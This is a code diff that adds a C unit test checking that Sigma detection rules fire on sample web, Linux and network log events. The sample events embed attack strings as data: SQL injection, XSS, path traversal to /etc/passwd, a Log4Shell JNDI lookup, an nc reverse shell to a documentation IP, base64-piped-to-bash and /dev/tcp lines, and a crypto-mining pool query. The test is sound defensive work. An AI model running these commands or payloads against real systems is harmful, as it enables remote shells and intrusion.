@@ -189,6 +189,59 @@ static void labelled_events_are_found(void **unused)
     ruleset_unref(rs);
 }
 
+/* Events under the names that the parsers give them, for rules written with the names of others. */
+static void rules_for_web_linux_and_network_match(void **unused)
+{
+    static const struct {
+        const char *id; /* NULL: no rule at all */
+        const char *event;
+    } cases[] = {
+        {"5513deaf-f49a-46c2-a6c8-3f111b5cb453",
+         "{\"event.dataset\":\"web.access\",\"http.request.method\":\"GET\",\"url.query\":"
+         "\"id=1%20UNION%20SELECT%20a\",\"http.response.status_code\":200}"},
+        {"65354b83-a2ea-4ea6-8414-3ab38be0d409",
+         "{\"event.dataset\":\"web.access\",\"http.request.method\":\"GET\",\"url.original\":"
+         "\"/?q=%3Cscript%3Ealert(1)%3C/script%3E\"}"},
+        {"7745c2ea-24a5-4290-b680-04359cb84b35",
+         "{\"event.dataset\":\"web.access\",\"url.query\":\"f=../../../../../etc/passwd\"}"},
+        {"5ea8faa8-db8b-45be-89b0-151b84c82702",
+         "{\"event.dataset\":\"web.access\",\"message\":\"GET / ${jndi:ldap://x/a}\"}"},
+        {NULL, "{\"event.dataset\":\"web.access\",\"http.request.method\":\"GET\",\"url.original\":"
+               "\"/tra-cuu?ma=HS1\",\"url.path\":\"/tra-cuu\",\"url.query\":\"ma=HS1\","
+               "\"http.response.status_code\":200,\"user_agent.original\":\"Mozilla/5.0\"}"},
+        {"7f734ed0-4f47-46c0-837f-6ee62505abd9",
+         "{\"event.module\":\"sudo\",\"process.executable\":\"/usr/bin/nc\","
+         "\"process.command_line\":\"/usr/bin/nc 192.0.2.1 1 -e /bin/bash\"}"},
+        {"ba592c6d-6888-43c3-b8c6-689b8fe47337",
+         "{\"event.module\":\"cron\",\"process.command_line\":\"echo aWQ= | base64 -d | bash\"}"},
+        {"6cc5fceb-9a71-4c23-aeeb-963abe0b279c",
+         "{\"event.module\":\"syslog\",\"message\":\"cat </dev/tcp/192.0.2.1/1\"}"},
+        {"af202fd3-7bff-4212-a25a-fb34606cfcbe",
+         "{\"event.module\":\"cron\",\"message\":\"(root) REPLACE (root)\"}"},
+        {NULL, "{\"event.module\":\"sshd\",\"event.category\":\"authentication\",\"message\":"
+               "\"Accepted publickey for a from 10.0.0.1 port 5 ssh2\",\"user.name\":\"a\"}"},
+        {"b593fd50-7335-4682-a36c-4edcb68e4641",
+         "{\"event.dataset\":\"suricata.dns\",\"dns.question.name\":\"pool.minexmr.com\"}"},
+        {"d7fb8f0e-bd5f-45c2-b467-19571c490d7e",
+         "{\"event.module\":\"fortigate\",\"destination.port\":21,\"event.action\":\"forward\"}"},
+        {"a8322756-015c-42e7-afb1-436e85ed3ff5",
+         "{\"event.dataset\":\"zeek.dns\",\"query\":\"abc.onion.to\"}"},
+    };
+    struct ruleset *rs = load("sigma/rules");
+
+    (void)unused;
+    if (!rs)
+        skip();
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+        const char *ids;
+        (void)try_detect(rs, try_event(slice_of(cases[i].event)), &ids);
+        if (cases[i].id ? !has_id(ids, cases[i].id) : *ids != 0)
+            fail_msg("%s\nwanted %s, got '%s'", cases[i].event, cases[i].id ? cases[i].id : "none",
+                     ids);
+    }
+    ruleset_unref(rs);
+}
+
 static int end(void **unused)
 {
     (void)unused;
@@ -202,6 +255,7 @@ int main(void)
         cmocka_unit_test(active_rules_load),
         cmocka_unit_test(unsupported_rules_are_named),
         cmocka_unit_test(labelled_events_are_found),
+        cmocka_unit_test(rules_for_web_linux_and_network_match),
     };
 
     return cmocka_run_group_tests(tests, NULL, end);
